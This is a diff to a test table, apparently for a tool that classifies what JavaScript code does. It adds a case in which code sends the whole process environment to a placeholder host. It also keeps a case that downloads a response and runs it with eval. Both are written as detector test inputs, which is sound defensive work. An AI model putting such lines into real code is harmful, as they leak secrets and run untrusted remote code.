@@ -669,6 +669,11 @@ table('JavaScript: files of another package', [
 
 table('JavaScript: what comes in, what was written', [
   [
+    'a request of a browser with a body',
+    "const x = new XMLHttpRequest(), y = new XMLHttpRequest(); x.open('POST', 'https://host.invalid'); y.open('POST', f()); x.send(JSON.stringify(process.env))",
+    'http-send to:other | http-send to:unknown | http-send carries:env to:other',
+  ],
+  [
     'an answer to a handler that is a property',
     "const x = new XMLHttpRequest(); x.open('GET', 'https://host.invalid'); x.onload = () => eval(x.responseText); x.send()",
     'http-request to:other | evaluate-downloaded',
